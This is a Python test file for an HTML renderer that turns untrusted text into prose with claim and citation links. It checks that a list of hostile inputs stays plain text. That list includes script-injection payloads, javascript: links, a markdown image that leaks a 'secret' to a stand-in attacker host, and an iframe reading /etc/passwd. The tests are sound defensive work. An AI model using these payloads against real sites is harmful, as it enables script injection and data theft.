"""The renderer: what untrusted text can never become, and where claims and numbers end up."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from warehouse.proof import citations
from warehouse.render import line, numbers_in, prose, without_numbers, words
from warehouse.results.records import Claim, ClaimState

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: http://evil.example/a.png",
    "[click](javascript:alert(1))",
    "[click](http://evil.example)",
    "[click](claim:9)",
    "<http://evil.example>",
    "before <link rel=stylesheet href=http://evil.example/x.css after",
    "<style>@import url(http://evil.example)</style>",
    "<iframe src='file:///etc/passwd'></iframe>",
    '<svg onload="alert(1)">',
    "```html\n<script>alert(1)</script>\n```",
    "[![x](data:image/svg+xml;base64,AAAA)](vbscript:x)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '# <a href="javascript:x">head</a>',
    "| a |\n|---|\n| <object data=x> |",
    "\ue000\ue010\ue001forged claim\ue002",
    "<!-- comment --><![CDATA[x]]><?php x ?>",
]


class Tags(HTMLParser):
    """Every tag and attribute that a browser would see, and the text that stays."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def claim(text: str, part: str, state: ClaimState = "supported", why: str = "") -> Claim:
    start = text.index(part)
    return Claim(start, start + len(part), part, (1,), state, why)


@pytest.mark.parametrize("untrusted", HOSTILE)
@pytest.mark.parametrize("target", ["window", "page"])
def test_hostile_text_stays_text(untrusted: str, target: str) -> None:
    seen = Tags(prose(untrusted, target="window" if target == "window" else "page"))
    for tag, attributes in seen.tags:
        assert tag in {"p", "h4", "h5", "pre", "code", "table", "thead", "tbody", "tr", "th", "td"}
        assert not set(attributes) - {"class"}


@pytest.mark.parametrize(
    ("untrusted", "shown"),
    [
        ("a<b and the rest of the line", "a<b and the rest of the line"),
        ("x <link rel=x\nnext line", "x <link rel=x\nnext line"),
        ("<b>raw</b>", "<b>raw</b>"),
        ("![x](http://e.example)", "![x](http://e.example)"),
        ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
        ("AT&T &amp; Co", "AT&T & Co"),
        ("    four spaces are no code", "four spaces are no code"),
    ],
)
def test_text_is_kept_to_the_last_character(untrusted: str, shown: str) -> None:
    assert Tags(prose(untrusted)).text.strip() == shown


def test_markdown_keeps_its_simple_forms() -> None:
    seen = Tags(prose("**bold** and *soft*\n\n- one\n- two\n\n# Head\n\n|a|b|\n|-|-|\n|c|d|"))
    assert [tag for tag, _ in seen.tags if tag in ("strong", "em", "li", "h4", "td")] == [
        "strong", "em", "li", "li", "h4", "td", "td",
    ]  # fmt: skip


def test_known_numbers_become_anchors_and_unknown_ones_stay() -> None:
    html = prose(
        "Kept [1][3]. Listed [1, 3]. Invented [9]. Half [1, 9]. One [1] [2019].", (), {1, 3}
    )
    hrefs = [attributes["href"] for tag, attributes in Tags(html).tags if tag == "a"]
    assert hrefs == ["#e1", "#e3", "#e1", "#e3", "#e1"]
    assert html.count("<sup>") == 3
    assert "</sup> [2019]." in html
    assert "[9]" in html
    assert "[1, 9]" in html
    assert "Kept<sup>" in html


@pytest.mark.parametrize("mark", ["[1-3]", "[1–3]", "[1, 2-3]", "[1 – 2][3]"])
def test_what_the_check_takes_for_a_mark_is_one_to_the_reader(mark: str) -> None:
    assert citations.cited(mark) == (1, 2, 3)
    seen = Tags(prose(f"Said {mark}.", numbers={1, 2, 3}))
    assert [attributes["href"] for tag, attributes in seen.tags if tag == "a"] == [
        "#e1", "#e2", "#e3",
    ]  # fmt: skip
    assert numbers_in(f"Said {mark} and [4") == {1, 2, 3}
    assert without_numbers(f"Said {mark}.") == "Said."


@pytest.mark.parametrize("text", ["On [2019-03-05].", "As [3-1] says.", "In [1-9]."])
def test_what_names_no_source_stays(text: str) -> None:
    assert Tags(prose(text, numbers={1, 2, 3})).text.strip() == text


def test_numbers_in_code_stay() -> None:
    assert "<a" not in prose("`list[1]`", numbers={1})


def test_a_claim_in_the_window_is_an_anchor_and_its_number_another() -> None:
    text = "First one [1]. Second."
    html = prose(text, [claim(text, "First one [1].")], {1}, first=4)
    assert html.strip() == (
        '<p><a class="claim" href="claim:4">First one</a><sup>'
        '<a class="cite" href="claim:4#e1">1</a></sup><a class="claim" href="claim:4">.</a>'
        " Second.</p>"
    )


def test_a_title_that_begins_with_a_number_is_no_list_in_a_list() -> None:
    line = "13. What Now? Nobody says [1]"
    text = f"Found:\n\n- {line}\n- Another"
    start = text.index("13.")
    claim = Claim(start, start + len(line), line, (1,), "quoted", "why")
    shown = prose(text, (claim,), frozenset({1}))
    assert "<ol" not in shown and "13. What Now?" in re.sub("<[^>]*>", "", shown)


def test_a_claim_on_a_page_has_state_and_reason_once_identified() -> None:
    text = "A *soft* claim [1]."
    html = prose(text, [claim(text, text, "not found", 'says "no"')], {1}, target="page")
    spans = [attributes for tag, attributes in Tags(html).tags if tag == "span"]
    assert {str(span["class"]) for span in spans} == {"claim not-found"}
    assert [span["id"] for span in spans if "id" in span] == ["c0"]
    assert spans[0]["title"] == 'Not found: says "no"'


def test_a_hostile_reason_cannot_leave_its_title() -> None:
    text = "Claim."
    html = prose(text, [claim(text, text, "partly", '"><script>x</script>')], target="page")
    assert [tag for tag, _ in Tags(html).tags] == ["p", "span"]


@pytest.mark.parametrize(
    "text",
    [
        "- a list entry.\n- another one.",
        "**All of it is bold.** And more.",
        "1. numbered.\n2. again.",
        "> quoted words.\n\nplain.",
        "Two paragraphs.\n\nIn one claim.",
        "| a | b |\n|---|---|\n| c | d |",
    ],
)
def test_claims_over_markdown_signs_keep_the_structure(text: str) -> None:
    plain = Tags(prose(text))
    whole = Tags(prose(text, [Claim(0, len(text), text, (), "supported", "")]))
    assert [tag for tag, _ in whole.tags if tag != "a"] == [tag for tag, _ in plain.tags]
    assert whole.text == plain.text


@pytest.mark.parametrize(
    ("text", "state"),
    [
        ("“__init__ is called with *args and **kwargs” [1].", "supported"),
        ("__init__ is called with *args and **kwargs in C:\\_new\\*old.", "quoted"),
        ("He writes “a\\.b | &lt; ~~so~~” and `no more`.", "supported"),
    ],
)
def test_words_of_a_page_are_shown_as_the_page_has_them(text: str, state: ClaimState) -> None:
    shown = Tags(prose(text, [Claim(0, len(text), text, (1,), state, "")])).text
    assert shown.strip() == text.replace("`no more`", "no more")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("The volume is 2*3*4 m, and a**2 times b**2 [1].", ""),
        ("It calls __init__.py, and SELECT count(*) AS n, count(*) [1].", ""),
        ("__main__.py is *run* **by name** (*so*) [1].", "__main__.py is run by name (so) [1]."),
        ("He writes `__init__` and `2*3*4` [1].", "He writes __init__ and 2*3*4 [1]."),
        ("这是**重点**内容 [1].", "这是重点内容 [1]."),
    ],
)
def test_signs_that_mark_nothing_are_shown(text: str, shown: str) -> None:
    inside = [Claim(0, len(text), text, (1,), "supported", "")]
    assert Tags(prose(text, inside)).text.strip() == (shown or text)


def test_marks_of_two_rows_are_no_quotation_and_code_gets_no_signs() -> None:
    rows = "| a | b |\n|---|---|\n| “c | d |\n| e” | f |"
    for claims in ([], [claim(rows, rows)]):
        assert "|" not in prose(rows, claims)
    assert Tags(prose("`x = “a*b”` of “Use of `y*` in *z*”")).text.strip() == (
        "x = “a*b” of “Use of `y*` in *z*”"
    )


def test_code_with_a_claim_in_it_gets_no_signs() -> None:
    text = "```\n__init__ = 1\n```"
    inside = Claim(4, 16, "__init__ = 1", (1,), "quoted", "")
    assert Tags(prose(text, [inside])).text.strip() == "__init__ = 1"


def test_claims_that_overlap_or_leave_the_text_are_left_out() -> None:
    text = "One sentence. Two."
    claims = [
        claim(text, "One sentence."),
        Claim(4, 15, "", (), "partly", ""),
        Claim(14, 900, "", (), "partly", ""),
        Claim(400, 500, "", (), "partly", ""),
    ]
    html = prose(text, claims)
    assert re.findall(r"claim:\d", html) == ["claim:0", "claim:2"]
    assert Tags(html).text.strip() == text


def test_forged_marks_do_not_make_claims() -> None:
    text = "\ue000\ue010\ue001forged\ue002 real."
    html = prose(text, [claim(text, "real.")])
    assert html.count("claim:0") == 1
    assert "\ufffd" in html


def test_line_means_nothing_to_html() -> None:
    assert line('<b a="x">&') == "&lt;b a=&quot;x&quot;&gt;&amp;"


def test_words_do_not_count_citations() -> None:
    assert words("Two words [1][2] here [3, 4].") == 3


def test_a_number_of_thousands_of_digits_is_no_citation() -> None:
    run_away = f"It broke [{'1' * 5000}]."
    assert prose(run_away, (), {1}) == f"<p>{run_away}</p>"


@pytest.mark.parametrize("depth", [9, 20, 40])
def test_words_of_nested_lists_and_quotes_are_shown(depth: int) -> None:
    points = "".join(f"{'  ' * level}- point {level}\n" for level in range(depth))
    assert re.findall(r"point \d+", prose(points)) == [f"point {at}" for at in range(depth)]
    assert "words" in prose("> " * depth + "words")
